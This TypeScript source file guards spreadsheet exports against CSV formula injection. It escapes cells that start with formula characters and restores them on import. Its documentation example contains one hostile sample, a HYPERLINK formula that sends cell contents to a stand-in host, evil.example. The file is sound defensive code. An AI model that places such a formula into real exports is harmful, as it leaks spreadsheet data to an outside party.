/**
 * A cell a spreadsheet would read as a formula: it starts with `=`, `+`, `-`, `@`, a tab
 * or a carriage return (OWASP's list), possibly behind apostrophes we added before.
 */
const FORMULA_START = /^'*[=+\-@\t\r]/;
/** A plain number (`-5`, `+3.5`) stays a number: it is data, not a formula. */
const NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;

/**
 * Makes a text cell safe to open in a spreadsheet (CSV formula injection): a cell that
 * would start a formula gets a leading apostrophe, which Excel, LibreOffice and Google
 * Sheets show as text. Numbers and every other cell pass unchanged. Every CSV and XLSX
 * export writes its cells through this; `restoreSpreadsheetCell` undoes it on import.
 *
 * @example
 * neutraliseSpreadsheetCell('=HYPERLINK("http://evil.example/?x="&A2)') // "'=HYPERLINK(…"
 * neutraliseSpreadsheetCell("-12.5") // "-12.5"
 */
export function neutraliseSpreadsheetCell(value: string): string {
  return FORMULA_START.test(value) && !NUMBER.test(value) ? `'${value}` : value;
}

/** The text a neutralised cell stood for (the inverse of `neutraliseSpreadsheetCell`). */
export function restoreSpreadsheetCell(value: string): string {
  return value.startsWith("'") && FORMULA_START.test(value) && !NUMBER.test(value.slice(1))
    ? value.slice(1)
    : value;
}
